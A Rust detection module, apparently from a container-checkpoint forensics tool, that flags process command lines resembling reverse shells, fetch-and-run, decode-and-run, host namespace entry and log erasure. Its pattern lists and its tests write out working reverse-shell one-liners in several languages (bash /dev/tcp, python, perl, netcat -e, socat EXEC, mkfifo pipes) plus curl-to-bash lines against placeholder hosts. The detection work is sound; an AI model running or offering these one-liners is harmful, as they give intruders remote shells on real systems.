//! Command lines that give themselves away: whole programs on one line that fetch, decode and run, or that connect and run.
//!
//! What is judged is what a line does, in whatever language: it opens a connection and starts a program, it decodes
//! something and runs it, it fetches something and runs it.

use ckpt_model::{Strings, Task, escape};
use memchr::memmem::find;

use super::finding::{Confidence, Finding, Rule, Seen, Severity};
use super::programs::{is_interpreter, is_multi_call, is_shell, program};
use super::subject::{Subject, named, shortened};
use super::talk;

pub(super) static RULES: &[&Rule] = &[&SUSPICIOUS];

static SUSPICIOUS: Rule = Rule {
    id: "suspicious-command",
    title: "A process was started with a command line that intruders use",
    why: "One-liners that open a connection and hand it a shell, or that fetch or decode a program and run it, are how a foothold becomes a shell.",
    wrong: "Installers are fetched and piped to a shell, too; administrators use netcat and socat to test.",
    check: "ckpt-inspect tree --pid PID EVIDENCE; ckpt-inspect files --pid PID EVIDENCE",
    attack: &["T1059", "T1105", "T1140"],
};

/// Bytes of a command line that are looked at.
const LONGEST: usize = 64 << 10;

/// What opens a connection.
const CONNECTS: [&[u8]; 20] = [
    b"/dev/tcp/",
    b"/dev/udp/",
    b"/inet/tcp/",
    b"/inet/udp/",
    b"socket.socket",
    b"socket.create_connection",
    b"import socket",
    b"IO::Socket",
    b"use Socket",
    b"TCPSocket",
    b"TCPServer",
    b"fsockopen",
    b"stream_socket_client",
    b"net.connect",
    b"net.Socket",
    b"net.createConnection",
    b"java.net.Socket",
    b"socket.tcp",
    b"ztcp",
    b"TcpClient",
];

/// What runs a program, or hands it a connection.
const RUNS: [&[u8]; 30] = [
    b"/bin/sh",
    b"/bin/bash",
    b"/bin/dash",
    b"/bin/ash",
    b"/bin/zsh",
    b"bash -i",
    b"sh -i",
    b"dup2",
    b"pty.spawn",
    b"subprocess",
    b"os.system",
    b"os.popen",
    b"os.exec",
    b"exec(",
    b"exec \"",
    b"exec '",
    b"exec{",
    b"system(",
    b"spawn(",
    b"popen(",
    b"shell_exec",
    b"passthru",
    b"proc_open",
    b"child_process",
    b"io.popen",
    b"ProcessBuilder",
    b"getRuntime",
    b"|getline",
    b"| getline",
    b"fdopen(",
];

/// What fetches something.
const FETCHES: [&[u8]; 8] = [
    b"curl ",
    b"wget ",
    b"fetch ",
    b"lwp-download ",
    b"aria2c ",
    b"tftp ",
    b"urlopen",
    b"requests.get",
];

/// Programs that make something readable again.
const DECODERS: [&[u8]; 7] = [
    b"base64 -d",
    b"base64 --decode",
    b"base64 -D",
    b"openssl enc -d",
    b"openssl base64 -d",
    b"xxd -r",
    b"gunzip -c",
];

/// Functions that do, in whatever language.
const DECODES: [&[u8]; 8] = [
    b"b64decode",
    b"base64_decode",
    b"decode_base64",
    b"Base64.decode",
    b"atob(",
    b"gzinflate",
    b"unhexlify",
    b"bytes.fromhex",
];

/// Bytes between `eval` and what it evaluates.
const NEAR: usize = 64;

/// Programs into which a line pipes what it wants to be run.
const INTO: [&[u8]; 14] = [
    b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python", b"python3", b"perl", b"ruby",
    b"php", b"node", b"sudo", b"/bin/sh",
];

/// What a command line does, how much that matters, and how sure it is.
type Verdict = (&'static str, Severity, Confidence);

pub(super) fn look(subject: &Subject<'_>, findings: &mut Vec<Finding>) {
    for task in &subject.tasks {
        let Some(argv) = &task.argv else { continue };
        let line = joined(argv);
        let judged = judge(task, argv, &line).or_else(|| talks(subject, task, argv));
        let Some((what, severity, confidence)) = judged else { continue };
        // What the container was started with is its owner's doing, as a rule.
        let asked_for = is_asked_for(subject, argv);
        let severity = if asked_for { severity.min(Severity::Medium) } else { severity };
        let title = format!("{} {what}", named(task));
        let mut finding = Finding::new(&SUSPICIOUS, severity, confidence, title).of(task.pid);
        if let Some(exe) = subject.executable(task) {
            finding = finding.path(exe.path.clone());
        }
        let shown = format!("arguments: {}", shortened(&escape(&line)));
        finding = finding.seen(Seen::new(shown).member(subject.mm(task)));
        if asked_for {
            finding = finding.seen(Seen::new("the container was started with this command"));
        }
        finding.evidence.extend(talk::seen(subject, task));
        findings.push(finding);
    }
}

/// A program on a command line of an interpreter, with a connection.
fn talks(subject: &Subject<'_>, task: &Task, argv: &Strings) -> Option<Verdict> {
    let mut options = argv.iter().skip(1).take(3);
    let inline = is_interpreter(program(task))
        && options.any(|word| matches!(word, b"-c" | b"-e" | b"-r" | b"-E" | b"--eval" | b"-ne"));
    let held = subject.sockets_of(task.pid);
    let connected = held.iter().any(|(_, socket)| talk::is_conversation(socket));
    (inline && connected).then_some((
        "runs a program that is on its command line, and talks over the network",
        Severity::Medium,
        Confidence::Medium,
    ))
}

/// The arguments as one line, of bounded length.
fn joined(argv: &Strings) -> Vec<u8> {
    let mut line = Vec::new();
    for word in argv.iter() {
        if line.len() >= LONGEST {
            break;
        }
        if !line.is_empty() {
            line.push(b' ');
        }
        line.extend_from_slice(word.get(..word.len().min(LONGEST)).unwrap_or(word));
    }
    let end = line.iter().rposition(|byte| *byte != b' ').map_or(0, |at| at.saturating_add(1));
    line.truncate(end);
    line
}

fn is_asked_for(subject: &Subject<'_>, argv: &Strings) -> bool {
    let command = &subject.checkpoint.container().command;
    !command.is_empty() && command.iter().map(String::as_bytes).eq(argv.iter())
}

fn has(line: &[u8], any: &[&[u8]]) -> bool {
    any.iter().any(|word| find(line, word).is_some())
}

fn judge(task: &Task, argv: &Strings, line: &[u8]) -> Option<Verdict> {
    let name = program(task);
    let connects = has(line, &CONNECTS);
    let runs = has(line, &RUNS);
    let text = is_shell(name) || is_interpreter(name) || is_multi_call(name);
    let piped = pipes_into(line);
    if text && connects && runs {
        return Some((
            "connects to somebody and hands over a shell",
            Severity::High,
            Confidence::High,
        ));
    }
    if is_shell(name) && has(line, &[b"/dev/tcp/", b"/dev/udp/"]) {
        return Some(("opens a connection by itself", Severity::High, Confidence::Medium));
    }
    if hands_over(argv, line) {
        return Some(("hands a connection to a program", Severity::High, Confidence::High));
    }
    let evaluates = has(line, &[b"eval", b"exec(", b"exec \"", b"system("]);
    if text && (decodes_and_runs(line) || (has(line, &DECODES) && evaluates)) {
        return Some(("decodes something and runs it", Severity::High, Confidence::Medium));
    }
    if text && has(line, &FETCHES) && piped {
        return Some(("fetches something and runs it", Severity::High, Confidence::Medium));
    }
    if text && find(line, b"pty.spawn").is_some() {
        return Some(("makes itself a terminal", Severity::High, Confidence::Medium));
    }
    if enters_the_host(argv, line) {
        return Some(("enters the namespaces of the host", Severity::High, Confidence::Medium));
    }
    let erases = [
        &b"history -c"[..],
        b"unset HISTFILE",
        b"HISTFILE=/dev/null",
        b"HISTSIZE=0",
        b"rm -rf /var/log",
        b"rm -f /var/log",
    ];
    if text && has(line, &erases) {
        return Some(("removes traces", Severity::Medium, Confidence::Medium));
    }
    None
}

/// Whether what a program decodes goes into an interpreter: through a pipe, or as what `eval` evaluates.
fn decodes_and_runs(line: &[u8]) -> bool {
    let places = DECODERS.iter().filter_map(|decoder| find(line, decoder));
    places.into_iter().any(|at| {
        let behind = line.get(at..).unwrap_or_default();
        let before = line.get(at.saturating_sub(NEAR)..at).unwrap_or_default();
        pipes_into(behind) || find(before, b"eval").is_some()
    })
}

/// Whether a line pipes something into what runs it.
fn pipes_into(line: &[u8]) -> bool {
    let mut parts = line.split(|byte| *byte == b'|').skip(1);
    parts.any(|part| {
        let mut words =
            part.split(|byte| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\''));
        let first = words.find(|word| !word.is_empty()).unwrap_or_default();
        let first = super::subject::base_name(first);
        INTO.contains(&first) || is_shell(first)
    })
}

/// `nc -e`, `ncat --exec`, `socat … EXEC:`, `mkfifo … | nc`, `telnet | sh | telnet`, `openssl s_client | sh`.
fn hands_over(argv: &Strings, line: &[u8]) -> bool {
    let words: Vec<&[u8]> = argv.iter().take(64).collect();
    let called = |names: &[&[u8]]| {
        words.iter().take(2).any(|word| names.contains(&super::subject::base_name(word)))
    };
    let netcat: [&[u8]; 5] = [b"nc", b"ncat", b"netcat", b"nc.traditional", b"nc.openbsd"];
    let option = |word: &&[u8]| {
        matches!(
            *word,
            b"-e" | b"-c" | b"--exec" | b"--sh-exec" | b"-lvpe" | b"-lpe" | b"-ne" | b"-le"
        )
    };
    if called(&netcat) && words.iter().any(option) {
        return true;
    }
    let executes: [&[u8]; 5] = [b"exec:", b"EXEC:", b"system:", b"SYSTEM:", b"SHELL:"];
    if called(&[b"socat"]) && has(line, &executes) {
        return true;
    }
    let netcats: [&[u8]; 8] = [
        b"| nc ",
        b"|nc ",
        b"| ncat ",
        b"|ncat ",
        b"|telnet ",
        b"| telnet ",
        b"openssl s_client",
        b"nc -e",
    ];
    let fifo = find(line, b"mkfifo").is_some() || find(line, b"mknod").is_some();
    let shell = has(line, &[b"sh -i", b"/bin/sh", b"/bin/bash", b"bash -i"]);
    has(line, &netcats) && shell && (fifo || pipes_into(line) || find(line, b"nc -e").is_some())
}

/// `nsenter` to the first process, or a root of the host.
fn enters_the_host(argv: &Strings, line: &[u8]) -> bool {
    let words: Vec<&[u8]> = argv.iter().take(64).collect();
    let enters = words.iter().take(3).any(|word| super::subject::base_name(word) == b"nsenter")
        || find(line, b"nsenter ").is_some();
    let first = has(line, &[b"-t 1 ", b"-t1 ", b"--target 1 ", b"--target=1 ", b"/proc/1/ns/"]);
    enters && first
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(exe: &str, argv: &[&str]) -> Option<&'static str> {
        let mut task = Task::default();
        task.comm = Some(ckpt_model::Text::from(exe));
        let argv = Strings(argv.join("\0").into_bytes());
        let line = joined(&argv);
        judge(&task, &argv, &line).map(|(what, ..)| what)
    }

    #[test]
    fn one_liners_of_many_languages() {
        for (exe, argv) in [
            ("bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"][..]),
            (
                "python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")",
                ],
            ),
            (
                "perl",
                &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");"],
            ),
            (
                "ruby",
                &[
                    "ruby",
                    "-rsocket",
                    "-e",
                    "f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)",
                ],
            ),
            ("php8.2", &["php", "-r", "$s=fsockopen(\"h\",1);exec(\"/bin/sh -i <&3\");"]),
            (
                "node",
                &[
                    "node",
                    "-e",
                    "require('net').connect; net.connect(1,'h');require('child_process').spawn('sh')",
                ],
            ),
            (
                "mawk",
                &["awk", "BEGIN{s=\"/inet/tcp/0/h/1\";while(1){s|&getline c;c|getline;system(c)}}"],
            ),
            ("nc", &["nc", "-e", "/bin/sh", "h", "1"]),
            ("busybox", &["busybox", "nc", "h", "1", "-e", "sh"]),
            ("socat", &["socat", "TCP:h:1", "EXEC:/bin/sh,pty"]),
            ("sh", &["sh", "-c", "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc h 1 >/tmp/f"]),
            ("sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"]),
            ("sh", &["sh", "-c", "curl -fsSL http://h/x | bash"]),
            ("nsenter", &["nsenter", "-t", "1", "-m", "sh"]),
        ] {
            assert!(verdict(exe, argv).is_some(), "{argv:?}");
        }
    }

    #[test]
    fn honest_lines() {
        for (exe, argv) in [
            ("sh", &["sh", "-c", "while true; do echo tick; sleep 1; done"][..]),
            ("sh", &["sh", "-c", "base64 -d /cfg > /etc/app.conf; exec app"]),
            ("python3", &["python3", "-c", "import socket; print(socket.gethostname())"]),
            ("nc", &["nc", "-lk", "8080"]),
            (
                "sh",
                &[
                    "sh",
                    "-c",
                    "echo $C | base64 -d > /c; x | grep y; eval $(ssh-agent -s | cat); app",
                ],
            ),
            ("curl", &["curl", "-o", "/tmp/x", "http://h/x"]),
            ("bash", &["/bin/bash", "/entrypoint.sh", "redis-server"]),
            ("node", &["node", "server.js"]),
        ] {
            assert_eq!(verdict(exe, argv), None, "{argv:?}");
        }
    }
}
